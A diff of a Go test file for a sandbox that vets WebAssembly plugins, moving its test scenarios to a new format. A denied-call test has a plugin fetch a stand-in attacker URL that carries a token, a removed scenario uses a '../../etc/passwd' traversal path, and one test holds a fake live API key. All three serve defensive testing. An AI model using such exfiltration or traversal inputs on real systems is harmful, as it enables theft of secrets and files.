@@ -18,52 +18,17 @@ import (
 	"gatehouse.dev/gatehouse/vet/internal/plugintest"
 )
 
-// runnerScenarios are the example plugins' documented scenarios, in the
-// format sandbox/scenario reads today, as far as it can express them (it
-// cannot seed or check the key-value store, match a fetch's body, or
-// check an error's text, only its kind).
-var runnerScenarios = map[string]string{
-	"notifier": `[
-	  {"name": "posts the message as JSON and reports the delivery", "export": "notify",
-	   "input": {"channel": "#ops", "text": "Deploy 42 finished", "level": "info"},
-	   "fetch": {"POST https://hooks.example.com/v1/messages": {"status": 202, "body": "{\"id\": \"msg_7\"}"}},
-	   "expected": {"delivered": true, "status": 202, "id": "msg_7"}},
-	  {"name": "a failing hook service is an error", "export": "notify",
-	   "input": {"channel": "ops", "text": "Disk almost full", "level": "warning"},
-	   "fetch": {"POST https://hooks.example.com/v1/messages": {"status": 503, "body": "maintenance"}},
-	   "expectedError": "plugin_error"},
-	  {"name": "an unknown level is refused before anything is sent", "export": "notify",
-	   "input": {"channel": "ops", "text": "hi", "level": "loud"}, "expectedError": "plugin_error"}
-	]`,
-	"templater": `[
-	  {"name": "renders the welcome template", "export": "render",
-	   "input": {"template": "welcome.txt", "data": {"name": "Ada", "team": "Platform", "tasks": ["Read the handbook", "Meet your buddy"]}},
-	   "expected": {"text": "Hello Ada,\n\nWelcome to Platform! Your first tasks:\n- Read the handbook\n- Meet your buddy\n\nSee you soon.\n"}},
-	  {"name": "a template that does not exist is an error", "export": "render",
-	   "input": {"template": "goodbye.txt", "data": {}}, "expectedError": "plugin_error"},
-	  {"name": "a path out of the templates folder is refused", "export": "render",
-	   "input": {"template": "../../etc/passwd", "data": {}}, "expectedError": "plugin_error"}
-	]`,
-	"counter": `[
-	  {"name": "reads a counter that does not exist as zero", "export": "get",
-	   "input": {"name": "signups"}, "expected": {"name": "signups", "value": 0}},
-	  {"name": "a step of zero is refused", "export": "increment",
-	   "input": {"name": "visits", "by": 0}, "expectedError": "plugin_error"}
-	]`,
-}
-
-func TestExamplesPass(t *testing.T) {
+// TestExamplesOwnScenarios runs each example plugin with the tests/*.json
+// it ships, in the format examples/README.md documents and the scaffold
+// writes: every scenario passes, with its host calls recorded.
+func TestExamplesOwnScenarios(t *testing.T) {
 	a := newAnalyzer(t)
 	for _, name := range []string{"counter", "notifier", "templater"} {
 		t.Run(name, func(t *testing.T) {
-			in := examplePackage(t, name, map[string]string{"runner.json": runnerScenarios[name]})
+			in := examplePackage(t, name, nil)
 			rep, d := analyze(t, a, in)
-			list, err := scenario.Parse([]byte(runnerScenarios[name]))
-			if err != nil {
-				t.Fatal(err)
-			}
-			if len(rep.Findings) != 0 || d.Passed != len(list) || d.Failed != 0 {
-				t.Errorf("passed %d of %d; findings: %s\ndetail: %+v", d.Passed, len(list), messages(rep.Findings), d.Scenarios)
+			if len(rep.Findings) != 0 || d.Failed != 0 || d.Passed == 0 {
+				t.Fatalf("passed %d, failed %d; findings: %s\ndetail: %+v", d.Passed, d.Failed, messages(rep.Findings), d.Scenarios)
 			}
 			for _, r := range d.Scenarios {
 				if r.Duration <= 0 || r.HostCalls == nil {
@@ -74,38 +39,15 @@ func TestExamplesPass(t *testing.T) {
 				t.Errorf("mounts %v: /templates should be the package's templates folder", d.Mounts)
 			}
 			if name == "notifier" {
-				r := d.Scenarios[0]
-				if len(r.HostCalls) != 1 || r.HostCalls[0].Function != "http_fetch" || r.HostCalls[0].Target != "https://hooks.example.com/v1/messages" {
-					t.Errorf("host calls of %q: %+v", r.Name, r.HostCalls)
-				}
-			}
-		})
-	}
-}
-
-// TestExamplesOwnScenarios runs each example with the tests/*.json it
-// ships, written in the format examples/README.md documents. Until
-// sandbox/scenario reads that format the analyzer reports each file as a
-// scenario error; the test then says so and stops, and it runs in full as
-// soon as the runner reads the documented format.
-func TestExamplesOwnScenarios(t *testing.T) {
-	a := newAnalyzer(t)
-	for _, name := range []string{"counter", "notifier", "templater"} {
-		t.Run(name, func(t *testing.T) {
-			in := examplePackage(t, name, nil)
-			rep, d := analyze(t, a, in)
-			for _, file := range d.Files {
-				data, _ := in.Package.File(file)
-				if _, err := scenario.Parse(data); err != nil {
-					errs := byRule(rep.Findings, RuleScenarioError)
-					if len(errs) == 0 || errs[0].Location.File != file {
-						t.Fatalf("%s does not parse (%v) and no scenario error says so: %s", file, err, messages(rep.Findings))
+				fetched := false
+				for _, r := range d.Scenarios {
+					for _, hc := range r.HostCalls {
+						fetched = fetched || (hc.Function == "http_fetch" && hc.Target == "https://hooks.example.com/v1/messages")
 					}
-					t.Skipf("sandbox/scenario does not read the documented scenario format yet: %s: %v", file, err)
 				}
-			}
-			if len(rep.Findings) != 0 || d.Failed != 0 || d.Passed == 0 {
-				t.Errorf("passed %d, failed %d; findings: %s", d.Passed, d.Failed, messages(rep.Findings))
+				if !fetched {
+					t.Errorf("no scenario recorded the fetch to the hook: %+v", d.Scenarios)
+				}
 			}
 		})
 	}
@@ -115,7 +57,7 @@ func TestUnexpectedOutput(t *testing.T) {
 	tests := `[
 	  {"name": "renders the welcome template", "export": "render",
 	   "input": {"template": "welcome.txt", "data": {"name": "Ada", "team": "Platform", "tasks": []}},
-	   "expected": {"text": "Bonjour Ada"}}
+	   "expect": {"output": {"text": "Bonjour Ada"}}}
 	]`
 	in := examplePackage(t, "templater", map[string]string{"wrong.json": tests})
 	rep, d := analyze(t, newAnalyzer(t), in)
@@ -136,8 +78,8 @@ func TestUnexpectedOutput(t *testing.T) {
 func TestDeniedCall(t *testing.T) {
 	tests := `[{"name": "fetches from an origin it was not granted", "export": "fetch",
 	  "input": {"url": "https://evil.example/steal?token=abc"},
-	  "fetch": {"GET https://evil.example/steal?token=abc": {"body": "never served"}},
-	  "expected": {"status": 200, "body": "never served"}}]`
+	  "fetch": [{"request": {"url": "https://evil.example/steal?token=abc"}, "response": {"body": "never served"}}],
+	  "expect": {"output": {"status": 200, "body": "never served"}}}]`
 	rep, d := analyze(t, newAnalyzer(t), probePackage(t, "", map[string]string{"denied.json": tests}))
 	fs := byRule(rep.Findings, RuleDeniedCall)
 	if len(fs) != 1 {
@@ -154,8 +96,8 @@ func TestDeniedCall(t *testing.T) {
 
 func TestLimitBreach(t *testing.T) {
 	tests := `[
-	  {"name": "spins", "export": "spin", "input": {}},
-	  {"name": "grows", "export": "grow", "input": {}}
+	  {"name": "spins", "export": "spin", "input": {}, "expect": {"output": {}}},
+	  {"name": "grows", "export": "grow", "input": {}, "expect": {"output": {}}}
 	]`
 	rep, _ := analyze(t, newAnalyzer(t), probePackage(t, "", map[string]string{"limits.json": tests}))
 	kinds := map[string]bool{}
@@ -181,7 +123,7 @@ func TestNeverReachesTheNetwork(t *testing.T) {
 	}))
 	defer srv.Close()
 	man := strings.Replace(string(plugintest.Source(t, "behaviourprobe", "manifest.json")), "https://api.example.com", srv.URL, 1)
-	tests := fmt.Sprintf(`[{"name": "fetch with no fake", "export": "fetch", "input": {"url": %q}, "expected": {"status": 200, "body": "served"}}]`, srv.URL+"/x")
+	tests := fmt.Sprintf(`[{"name": "fetch with no fake", "export": "fetch", "input": {"url": %q}, "expect": {"output": {"status": 200, "body": "served"}}}]`, srv.URL+"/x")
 	rep, d := analyze(t, newAnalyzer(t), probePackage(t, man, map[string]string{"net.json": tests}))
 	if hits.Load() != 0 {
 		t.Fatalf("the server was reached %d times", hits.Load())
@@ -197,7 +139,7 @@ func TestNeverReachesTheNetwork(t *testing.T) {
 func TestScenarioErrors(t *testing.T) {
 	tests := map[string]string{
 		"broken.json":  `[{"name": "typo", "export": "fetch", "input": {}, "expcted": {}}]`,
-		"missing.json": `[{"name": "calls an export that does not exist", "export": "nope", "input": {}}]`,
+		"missing.json": `[{"name": "calls an export that does not exist", "export": "nope", "input": {}, "expect": {"output": {}}}]`,
 	}
 	rep, _ := analyze(t, newAnalyzer(t), probePackage(t, "", tests))
 	files := map[string]bool{}
@@ -236,7 +178,7 @@ func TestFindingsFromOutcome(t *testing.T) {
 func TestSecretsNotEchoed(t *testing.T) {
 	key := "sk_live_" + strings.Repeat("4eC39HqLyjWDarjtT1zdp7dc", 1)
 	r := &report{}
-	s := scenario.Scenario{Name: "n", Export: "e", Expected: json.RawMessage(`{"ok":true}`)}
+	s := scenario.Scenario{Name: "n", Export: "e", Expect: scenario.Expect{Output: json.RawMessage(`{"ok":true}`)}}
 	r.scenario(s, outcome{Run: Run{File: "tests/a.json"}, mismatch: `output {"key":"` + key + `"} differs from the expected {"ok":true}`}, vet.Location{})
 	b, _ := json.Marshal(r.findings)
 	if len(r.findings) != 1 || strings.Contains(string(b), key[4:]) {
@@ -274,5 +216,20 @@ func TestMountsAreThePackagesOwn(t *testing.T) {
 	}
 	if fi, err := os.Stat(filepath.Join(dir, "welcome.txt")); err != nil || fi.Mode().Perm()&0o222 != 0 {
 		t.Errorf("mounted file is writable: %v %v", fi.Mode(), err)
+	}
+}
+
+// TestPluginThatDoesNotLoad: a module importing a host function its
+// manifest does not grant never loads; one finding says so, at the module.
+func TestPluginThatDoesNotLoad(t *testing.T) {
+	man := strings.Replace(string(plugintest.Source(t, "behaviourprobe", "manifest.json")), `"permissions": ["net:https://api.example.com"]`, `"permissions": []`, 1)
+	tests := `[{"name": "a", "export": "spin", "input": {}, "expect": {"output": {}}}, {"name": "b", "export": "grow", "input": {}, "expect": {"output": {}}}]`
+	rep, d := analyze(t, newAnalyzer(t), probePackage(t, man, map[string]string{"t.json": tests}))
+	if len(rep.Findings) != 1 || rep.Findings[0].RuleID != RuleScenarioError || rep.Findings[0].Severity != vet.High ||
+		rep.Findings[0].Location.File != "plugin.wasm" || !strings.Contains(rep.Findings[0].Message, "http_fetch") {
+		t.Errorf("findings: %s", messages(rep.Findings))
+	}
+	if len(d.Scenarios) != 0 {
+		t.Errorf("scenarios ran: %+v", d.Scenarios)
 	}
 }
